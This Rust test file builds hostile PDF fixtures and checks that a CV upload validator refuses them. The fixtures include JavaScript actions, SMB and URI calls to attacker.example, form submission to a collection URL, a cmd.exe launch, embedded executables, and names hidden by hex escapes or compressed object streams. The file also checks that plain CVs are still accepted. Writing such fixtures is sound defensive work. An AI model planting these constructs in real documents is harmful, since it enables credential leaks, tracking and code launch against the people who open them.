//! A corpus of hostile PDFs, each doing one thing a CV must not, and of plain ones that must
//! still be taken. Most are written by hand so that names, escapes and object placement are
//! exactly what a hostile file would have.

use crate::seekers::cv::{Refusal, check_pdf};

/// A PDF whose objects are numbered from 1 (object 1 is the catalog); the last `unlisted`
/// objects are in the file but left out of the cross-reference table.
fn raw_with_unlisted(objects: &[String], unlisted: usize) -> Vec<u8> {
    let mut out = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n".to_vec();
    let mut offsets = Vec::new();
    for (i, body) in objects.iter().enumerate() {
        offsets.push(out.len());
        out.extend_from_slice(format!("{} 0 obj\n{body}\nendobj\n", i + 1).as_bytes());
    }
    let listed = objects.len() - unlisted;
    let xref = out.len();
    out.extend_from_slice(format!("xref\n0 {}\n0000000000 65535 f \n", listed + 1).as_bytes());
    for offset in &offsets[..listed] {
        out.extend_from_slice(format!("{offset:010} 00000 n \n").as_bytes());
    }
    out.extend_from_slice(
        format!(
            "trailer\n<< /Size {} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n",
            listed + 1
        )
        .as_bytes(),
    );
    out
}

fn raw(objects: &[String]) -> Vec<u8> {
    raw_with_unlisted(objects, 0)
}

fn stream(dict: &str, data: &str) -> String {
    format!(
        "<< {dict} /Length {} >>\nstream\n{data}\nendstream",
        data.len()
    )
}

/// A one-page CV with a line of text. `catalog` and `page` are added to the catalog's and
/// the page's entries; `more` are objects numbered from 6.
fn cv(catalog: &str, page: &str, more: &[&str]) -> Vec<u8> {
    let mut objects = vec![
        format!("<< /Type /Catalog /Pages 2 0 R {catalog} >>"),
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_owned(),
        format!(
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R \
             /Resources << /Font << /F1 5 0 R >> >> {page} >>"
        ),
        stream("", "BT /F1 12 Tf 72 770 Td (Siti Aminah - Kasir) Tj ET"),
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>".to_owned(),
    ];
    objects.extend(more.iter().map(|o| (*o).to_owned()));
    raw(&objects)
}

/// The same CV written by lopdf with object streams and a compressed cross-reference
/// stream; `action` becomes the catalog's `/OpenAction`, as an object of its own that lands
/// inside an object stream.
fn compressed(action: Option<lopdf::Dictionary>) -> Vec<u8> {
    use lopdf::{Document, Object, SaveOptions, Stream, dictionary};
    let mut doc = Document::with_version("1.7");
    let pages_id = doc.new_object_id();
    let content = doc.add_object(Stream::new(dictionary! {}, b"BT ET".to_vec()));
    let page = doc.add_object(dictionary! {
        "Type" => "Page", "Parent" => pages_id, "Contents" => content,
        "MediaBox" => vec![0.into(), 0.into(), 595.into(), 842.into()],
    });
    doc.objects.insert(
        pages_id,
        Object::Dictionary(dictionary! {
            "Type" => "Pages", "Kids" => vec![page.into()], "Count" => 1,
        }),
    );
    let mut catalog = dictionary! { "Type" => "Catalog", "Pages" => pages_id };
    if let Some(action) = action {
        catalog.set("OpenAction", doc.add_object(action));
    }
    let catalog_id = doc.add_object(catalog);
    doc.trailer.set("Root", catalog_id);
    let mut out = Vec::new();
    let options = SaveOptions::builder()
        .use_object_streams(true)
        .use_xref_streams(true)
        .compression_level(6)
        .build();
    doc.save_with_options(&mut out, options).expect("write pdf");
    out
}

#[track_caller]
fn assert_refused(what: &str, bytes: &[u8]) {
    assert_eq!(check_pdf(bytes), Err(Refusal::ActiveContent), "{what}");
}

#[track_caller]
fn assert_taken(what: &str, bytes: &[u8]) {
    assert_eq!(check_pdf(bytes), Ok(()), "{what}");
}

const SCRIPT: &str = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>";

#[test]
fn scripts_are_refused_wherever_they_are() {
    let xfa = stream(
        "",
        "<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\"><template><subform>\
         <event activity=\"initialize\"><script contentType=\"application/x-javascript\">\
         app.alert(1)</script></event></subform></template></xdp:xdp>",
    );
    assert_refused(
        "an XFA form with a <script>",
        &cv("/AcroForm << /Fields [] /XFA 6 0 R >>", "", &[&xfa]),
    );
    assert_refused(
        "JavaScript in a page's additional actions",
        &cv("", &format!("/AA << /O {SCRIPT} >>"), &[]),
    );
    assert_refused(
        "JavaScript when the document opens",
        &cv(&format!("/OpenAction {SCRIPT}"), "", &[]),
    );
    assert_refused(
        "the document's name tree of scripts",
        &cv(
            &format!("/Names << /JavaScript << /Names [(a) {SCRIPT}] >> >>"),
            "",
            &[],
        ),
    );
    assert_refused(
        "a form field that calculates with a script",
        &cv(
            "/AcroForm << /Fields [6 0 R] >>",
            "/Annots [6 0 R]",
            &[&format!(
                "<< /FT /Tx /T (total) /Subtype /Widget /Rect [0 0 10 10] /AA << /C {SCRIPT} >> >>"
            )],
        ),
    );
    assert_refused("a script nothing points to", &cv("", "", &[SCRIPT]));
    assert_refused(
        "a script in an object the cross-reference table leaves out",
        &raw_with_unlisted(
            &[
                "<< /Type /Catalog /Pages 2 0 R >>".to_owned(),
                "<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_owned(),
                "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>".to_owned(),
                "<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) /Next 4 0 R >>".to_owned(),
            ],
            1,
        ),
    );
}

#[test]
fn actions_are_refused_except_moving_within_the_document() {
    assert_refused(
        "opening a file on an SMB share when the document opens",
        &cv(
            r"/OpenAction << /S /GoToR /F (\\\\attacker.example\\share\\cv.pdf) /D [0 /Fit] >>",
            "",
            &[],
        ),
    );
    assert_refused(
        "opening a web address when the document opens",
        &cv(
            "/OpenAction << /S /URI /URI (https://attacker.example/track) >>",
            "",
            &[],
        ),
    );
    assert_refused(
        "starting a program",
        &cv(
            "/OpenAction 6 0 R",
            "",
            &["<< /Type /Action /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>"],
        ),
    );
    assert_refused(
        "a link annotation that opens a web address",
        &cv(
            "",
            "/Annots [6 0 R]",
            &["<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] \
               /A << /S /URI /URI (https://attacker.example) >> >>"],
        ),
    );
    assert_refused(
        "a bookmark that moves, then runs a script",
        &cv(
            "/Outlines 6 0 R",
            "",
            &[
                "<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 1 >>",
                &format!(
                    "<< /Title (CV) /Parent 6 0 R /A << /S /GoTo /D [3 0 R /Fit] /Next {SCRIPT} >> >>"
                ),
            ],
        ),
    );
    let others = [
        "<< /S /GoToE /T << /R /C /N (cv) >> >>",
        "<< /S /SubmitForm /F << /FS /URL /F (https://attacker.example/collect) >> >>",
        "<< /S /ImportData /F (data.fdf) >>",
        "<< /S /Rendition /OP 0 >>",
        "<< /S /Sound /Sound 6 0 R >>",
        "<< /S /Movie /T (clip) >>",
        "<< /S /Named /N /Print >>",
        "<< /S /Hide /T (x) >>",
        "<< /S /SomethingNew >>",
    ];
    for action in others {
        assert_refused(action, &cv(&format!("/OpenAction {action}"), "", &[]));
    }
    assert_refused(
        "a button that submits a form",
        &cv(
            "/AcroForm << /Fields [6 0 R] >>",
            "/Annots [6 0 R]",
            &["<< /FT /Btn /T (send) /Subtype /Widget /Rect [0 0 10 10] \
               /A << /S /SubmitForm /F << /FS /URL /F (https://attacker.example) >> >> >>"],
        ),
    );
    assert_refused(
        "the catalog's base address for links",
        &cv("/URI << /Base (https://attacker.example/) >>", "", &[]),
    );
}

#[test]
fn files_inside_and_outside_the_pdf_are_refused() {
    assert_refused(
        "an embedded file in the name tree",
        &cv(
            "/Names << /EmbeddedFiles << /Names [(cv.exe) 6 0 R] >> >>",
            "",
            &[
                "<< /Type /Filespec /F (cv.exe) /EF << /F 7 0 R >> >>",
                &stream("/Type /EmbeddedFile", "MZ"),
            ],
        ),
    );
    assert_refused(
        "a file attachment annotation",
        &cv(
            "",
            "/Annots [6 0 R]",
            &[
                "<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS 7 0 R >>",
                "<< /Type /Filespec /F (a.exe) >>",
            ],
        ),
    );
    for subtype in [
        "Sound",
        "Movie",
        "Screen",
        "RichMedia",
        "3D",
        "SomethingNew",
    ] {
        assert_refused(
            subtype,
            &cv(
                "",
                "/Annots [6 0 R]",
                &[&format!(
                    "<< /Type /Annot /Subtype /{subtype} /Rect [0 0 10 10] >>"
                )],
            ),
        );
    }
    assert_refused(
        "a content stream read from a network share",
        &cv(
            "",
            "/Thumb 6 0 R",
            &[&stream(r"/F (\\\\attacker.example\\share\\x)", "")],
        ),
    );
}

#[test]
fn names_hidden_by_hex_escapes_are_still_seen() {
    let hidden = [
        (
            "OpenAction JavaScript",
            cv(
                "/Open#41ction << /#53 /Java#53cript /J#53 (app.alert\\(1\\)) >>",
                "",
                &[],
            ),
        ),
        (
            "OpenAction GoToR",
            cv(
                r"/Open#41ction << /S /GoTo#52 /F (\\\\attacker.example\\share\\x.pdf) /D [0 /Fit] >>",
                "",
                &[],
            ),
        ),
        (
            "page AA",
            cv("", "/#41#41 << /O << /S /#4a#61vaScript /JS (1) >> >>", &[]),
        ),
        (
            "link URI",
            cv(
                "",
                "/Annots [6 0 R]",
                &[
                    "<< /Subtype /Link /Rect [0 0 10 10] /A << /S /#55#52#49 /#55RI (https://x.example) >> >>",
                ],
            ),
        ),
        (
            "launch",
            cv("/OpenAction << /S /#4caunch /F (cmd.exe) >>", "", &[]),
        ),
        (
            "embedded file",
            cv("/Names << /Embedded#46iles << /Names [] >> >>", "", &[]),
        ),
        (
            "file attachment",
            cv(
                "",
                "/Annots [6 0 R]",
                &["<< /Sub#74ype /File#41ttachment /Rect [0 0 10 10] >>"],
            ),
        ),
        ("XFA", cv("/AcroForm << /Fields [] /#58FA (x) >>", "", &[])),
    ];
    for (what, bytes) in hidden {
        assert!(
            !bytes.windows(6).any(|w| w == b"Launch" || w == b"JavaSc"),
            "{what}: the test file really hides the name"
        );
        assert_refused(what, &bytes);
    }
}

#[test]
fn an_action_inside_an_object_stream_is_seen() {
    use lopdf::dictionary;
    let script = dictionary! {
        "S" => "JavaScript", "JS" => lopdf::Object::string_literal("app.alert(1)"),
    };
    let bytes = compressed(Some(script));
    assert!(
        !bytes.windows(10).any(|w| w == b"JavaScript"),
        "the action is compressed out of plain sight"
    );
    assert_refused("a script in an object stream", &bytes);
    let uri = dictionary! {
        "S" => "URI", "URI" => lopdf::Object::string_literal("https://attacker.example"),
    };
    assert_refused("a link out in an object stream", &compressed(Some(uri)));
    assert_taken("the same file without it", &compressed(None));
}

#[test]
fn plain_documents_are_taken() {
    assert_taken("a one-page text CV", &cv("", "", &[]));

    let mut pages = vec![
        "<< /Type /Catalog /Pages 2 0 R >>".to_owned(),
        "<< /Type /Pages /Kids [3 0 R 4 0 R 5 0 R] /Count 3 >>".to_owned(),
    ];
    for content in [6, 7, 8] {
        pages.push(format!(
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents {content} 0 R \
             /Resources << /Font << /F1 9 0 R >> >> >>"
        ));
    }
    for page in 1..=3 {
        pages.push(stream(
            "",
            &format!("BT /F1 12 Tf 72 770 Td (Halaman {page}) Tj ET"),
        ));
    }
    pages.push("<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>".to_owned());
    assert_taken("a three-page CV", &raw(&pages));

    assert_taken(
        "bookmarks with destinations, opening at the first page",
        &cv(
            "/Outlines 6 0 R /PageMode /UseOutlines /OpenAction [3 0 R /XYZ null null 0]",
            "",
            &[
                "<< /Type /Outlines /First 7 0 R /Last 8 0 R /Count 2 >>",
                "<< /Title (Pendidikan) /Parent 6 0 R /Next 8 0 R /Dest [3 0 R /XYZ 0 800 0] >>",
                "<< /Title (Pengalaman) /Parent 6 0 R /Prev 7 0 R /A << /S /GoTo /D [3 0 R /Fit] >> >>",
            ],
        ),
    );

    let image = stream(
        "/Type /XObject /Subtype /Image /Width 2 /Height 2 /ColorSpace /DeviceGray \
         /BitsPerComponent 8 /Filter /ASCIIHexDecode",
        "00ffff00>",
    );
    assert_taken(
        "a photo on the page",
        &raw(&[
            "<< /Type /Catalog /Pages 2 0 R >>".to_owned(),
            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_owned(),
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R \
             /Resources << /XObject << /Im1 5 0 R >> >> >>"
                .to_owned(),
            stream("", "q 90 0 0 120 72 650 cm /Im1 Do Q"),
            image,
        ]),
    );

    assert_taken(
        "a tagged CV as word processors write it, with a link within itself",
        &cv(
            "/Lang (id-ID) /MarkInfo << /Marked true >> /StructTreeRoot 6 0 R \
             /Metadata 8 0 R /ViewerPreferences << /DisplayDocTitle true >>",
            "/StructParents 0 /Annots [9 0 R]",
            &[
                "<< /Type /StructTreeRoot /K [7 0 R] >>",
                "<< /Type /StructElem /S /P /P 6 0 R /Pg 3 0 R /K 0 \
                   /A << /O /Layout /Placement /Block >> >>",
                &stream(
                    "/Type /Metadata /Subtype /XML",
                    "<x:xmpmeta xmlns:x=\"adobe:ns:meta/\"/>",
                ),
                "<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /Border [0 0 0] \
                   /Dest [3 0 R /Fit] >>",
            ],
        ),
    );
}

#[test]
fn files_that_cannot_be_checked_whole_are_refused() {
    let mut damaged = cv("", "", &[]);
    let at = damaged
        .windows(6)
        .position(|w| w == b"5 0 ob")
        .expect("object 5");
    damaged[at + 8..at + 16].copy_from_slice(b"<<<<[[[(");
    assert_eq!(check_pdf(&damaged), Err(Refusal::Unreadable));
}
